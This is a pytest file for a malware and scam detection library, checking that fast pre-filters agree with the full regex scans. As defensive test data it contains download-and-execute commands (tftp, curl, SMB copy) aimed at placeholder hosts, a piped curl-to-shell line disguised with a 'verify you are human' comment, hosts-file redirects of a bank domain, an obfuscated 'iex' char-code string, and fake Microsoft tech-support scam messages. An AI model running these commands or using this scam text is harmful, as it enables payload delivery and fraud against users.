"""The cheap looks that spare a check its scan (speed only, no verdict may move): each one is
pinned against the scan it stands in front of, on texts that barely pass it or barely fail."""

from __future__ import annotations

import re
import time

import pytest
import re2

from app.detection import commands, decoders, handover, scamsentence, signals, staging
from app.detection.clock import budget_clock
from app.detection.occurs import occurs

# texts at the edges of the gates below: the word in capitals, the long s that RE2's (?i)
# folds to an s, a look-alike, non-ASCII around it, nothing at all
EDGES = [
    "",
    "hello",
    "TFTP -i 192.0.2.7 GET r.exe",
    "TfTp -i 192.0.2.7 GET r.exe & r.exe",
    "copy \\\\192.0.2.15\\pub\\a.exe a.exe & a.exe",
    "guest@files.drop.test:agent /tmp/agent; /tmp/agent",
    "mirror.drop.test:/srv/p /tmp/p\n",
    "curl https://drop.test/a.exe -o a.exe & a.exe",
    'echo "203.0.113.7 bank.test" >> /ETC/HOSTS',
    'echo "203.0.113.7 bank.test" >> /etc/hoſts',
    'echo "203.0.113.7 bank.test" >> C:\\Windows\\System32\\drivers\\etc\\HoStS',
    "Ｃ:\\drivers\\etc\\hosts ­é",
    "/etc/host s",
    "ftp and tft p, not the program",
]


@pytest.mark.parametrize("text", EDGES)
def test_occurs_is_search(text: str) -> None:
    patterns = [
        staging._MAY_BRING,
        handover._HOSTS_NAMED,
        scamsentence._CLAIM_BRANDS,
        re2.compile(r"^$"),
        re2.compile(r""),
        re2.compile(r"(?i)hoſts|é$"),
    ]
    for pattern in patterns:
        assert occurs(pattern, text) == (pattern.search(text) is not None), pattern.pattern


@pytest.mark.parametrize("text", EDGES)
def test_the_plain_looks_pass_every_text_their_scans_would(text: str) -> None:
    if staging._MAY_BRING.search(text):
        assert staging._may_bring(text)
    if handover._HOSTS_NAMED.search(text):
        assert handover._may_name_hosts(text)


def test_a_hosts_file_named_in_capitals_or_with_a_long_s_is_still_read() -> None:
    for path in ("/ETC/HOSTS", "/etc/hoſts", "C:\\Windows\\System32\\drivers\\etc\\HoStS"):
        assert handover.hosts_entries(f'echo "203.0.113.7 bank.test" >> {path}') == [
            ("203.0.113.7", "bank.test")
        ]
    assert handover.hosts_entries('echo "203.0.113.7 bank.test" >> /etc/host') == []


def test_a_copy_named_by_tftp_alone_is_still_read() -> None:
    # no two backslashes, no ':/', no '@': only the program's name lets it past the look
    text = "tftp -i 192.0.2.7 GET r.exe C:\\Users\\Public\\r.exe & start C:\\Users\\Public\\r.exe"
    assert staging.copies_in_then_runs(text)
    assert staging.copies_in_then_runs(text.replace("tftp", "tft")) is None


CLAIM = (
    "Microsoft has detected a problem with your computer. Please call Microsoft Support at "
    "+1 555 010 4477 now."
)


def test_a_claim_needs_its_number_and_is_read_with_it() -> None:
    assert scamsentence.scam_claim(CLAIM)
    assert scamsentence.scam_claim(CLAIM.replace("+1 555 010 4477", "the number on screen")) is None
    # the number barely there: its digits (8 to 15) make it one
    assert scamsentence.scam_claim(CLAIM.replace("+1 555 010 4477", "+1 555 010")) is None
    assert scamsentence.scam_claim(CLAIM.replace("+1 555 010 4477", "+1 555 0104")) is not None


GERMAN_CLAIM = (
    "Microsoft-Hinweis: Ihr Computer wurde gesperrt. Rufen Sie sofort den Microsoft Support "
    "unter +49 555 0100 4477 an."
)


def test_the_claims_of_other_languages_are_compiled_for_a_number_and_a_brand() -> None:
    scamsentence.claim_languages.cache_clear()
    # barely short of it: the brand and the claim, but no number to call
    assert scamsentence.scam_claim(GERMAN_CLAIM.replace(" unter +49 555 0100 4477", "")) is None
    assert scamsentence.claim_languages.cache_info().currsize == 0  # not compiled for it
    # with the number, the German claim is found by the patterns compiled then
    assert scamsentence.scam_claim(GERMAN_CLAIM) == (
        "Microsoft: 'Ihr Computer wurde gesperrt' + phone +49 555 0100 4477"
    )
    assert scamsentence.claim_languages.cache_info().currsize == 1
    assert len(scamsentence.claim_languages()) == 13  # English and claimwords' twelve


def test_the_claims_in_other_languages_are_compiled_off_the_texts_clock() -> None:
    scamsentence.claim_languages.cache_clear()
    re2.purge()  # the binding keeps what it compiled: compiled afresh here
    clock, cpu = budget_clock(), time.thread_time()
    scamsentence.claim_languages()
    spent_cpu, spent_clock = time.thread_time() - cpu, budget_clock() - clock
    assert spent_cpu > 0.002  # the barrier: 36 patterns were compiled just now
    assert spent_clock < spent_cpu / 4


def test_the_numbers_kept_are_those_of_the_text_asked_about() -> None:
    texts = [f"call +1 555 010 {n:04d} now" for n in range(8)]
    first = [list(scamsentence.phones_in(text)) for text in texts]
    for n, found in enumerate(first):
        assert found and all(p.endswith(f"010 {n:04d}") for p in found)
    # more texts than are kept, asked again: each gets its own numbers
    assert [scamsentence.phones_in(text) for text in texts] == first
    # an equal text that is another object is read again, to the same numbers
    same = "".join(["call +1 555 010 ", "0003 now"])
    assert same is not texts[3] and scamsentence.phones_in(same) == first[3]
    assert scamsentence.phones_in("no number here") == []


def test_the_loopback_look_is_the_hint_pattern_for_every_letter_it_could_fold() -> None:
    # every character put in place of each letter of "localhost:": where the (?i) pattern
    # takes it, the plain look (lower-casing and the long s) must too, and only there
    word = "localhost:"
    for code in range(0x80, 0x10000):
        c = chr(code)
        if not c.isprintable():
            continue
        for i in range(len(word) - 1):
            text = "x " + word[:i] + c + word[i + 1 :] + "4000/cb"
            assert signals._may_hold_loopback(text) == bool(signals._LOOPBACK_HINT.search(text))
    for text in ["LOCALHOST:8080", "see 127.0.0.1", "[::1]:80", "localhost 80", "é localhost"]:
        assert signals._may_hold_loopback(text) == bool(signals._LOOPBACK_HINT.search(text))


@pytest.mark.parametrize(
    "text",
    [
        "echo hi\n:: curl https://drop.test/a | sh\nREM verify you are human",
        "dir & rem note\nRem: x\nremove && ReM y\n:: z",
        "echo a\r\ncall b && rEm c",
        "ver\nkeine Bemerkung: ʀem\n@rem é",
    ],
)
def test_cmd_comments_are_read_on_each_line_that_holds_one(text: str) -> None:
    # read_commands looks for cmd's comments only on lines with '::' or 'rem': the same as
    # asking every line
    structure = commands.read_commands(text)
    every_line = [commands._split_comments(line, True) for line in text.splitlines()]
    assert structure.comments == [c for _, c in every_line if c is not None]
    assert structure.active == "\n".join(a for a, _ in every_line)


HEX_AND_LISTS = [
    "",
    "a" * 23 + " deadbeef",
    "0123456789abcdefABCDEF01",  # 24: barely a run
    "0123456789abcdefABCDEF0",  # 23: barely not
    "0123456789abcdef\u00e90123456789abcdef",  # broken by a letter beyond ASCII
    "x=0123456789abcdefABCDEF01\ud800",  # a lone surrogate after it
    "1,2,3,4",
    "1,2,3",
    "1, 2 ,3,\x0b4",  # Python's \s takes \x0b (RE2's does not)
    "1,\x1c2,3,\x1f4",
    "1 ,     2,3,4",  # five blanks: more than \s{0,4}
    "[char]105+[char]101+[char]120+[char]33",
    "[CHAR]1 + [Char]2+[char]3+[char]4",
    "0x1F,0X2a;3+4",
    "12345678,1,2,3",
    "1,\u00a02,3,4",  # a no-break space: not ASCII, the pattern itself decides
    "\u0661,\u0662,\u0663,\u0664",  # Arabic-Indic digits are \d to Python's re
]


@pytest.mark.parametrize("text", HEX_AND_LISTS)
def test_the_decoders_looks_are_their_patterns(text: str) -> None:
    assert decoders.has_hex_24(text) == bool(decoders._HEX_DIGITS_24.search(text))
    if decoders._NUMBER_LIST.search(text):
        assert decoders.may_list_numbers(text)
    if text.isascii():  # there the look is the pattern itself, in RE2
        assert decoders.may_list_numbers(text) == bool(decoders._NUMBER_LIST.search(text))


def test_a_list_of_char_codes_is_still_decoded() -> None:
    assert list(decoders.decode_char_codes("[char]105+[char]101+[char]120+[char]33")) == ["iex!"]
    assert list(decoders.decode_hex("s = 6375726c2068747470733a2f2f612e74657374")) == [
        "curl https://a.test"
    ]


@pytest.mark.parametrize(
    "path",
    ["C:\\Users\\Public\\r.exe", "/tmp/x/agent", "\\\\srv\\s\\A.EXE", "a/b\\c", "plain", "d:"],
)
def test_a_basename_is_the_part_after_the_last_separator(path: str) -> None:
    assert staging._basename(path) == re.split(r"[\\/]", path.split(",")[0])[-1].lower()
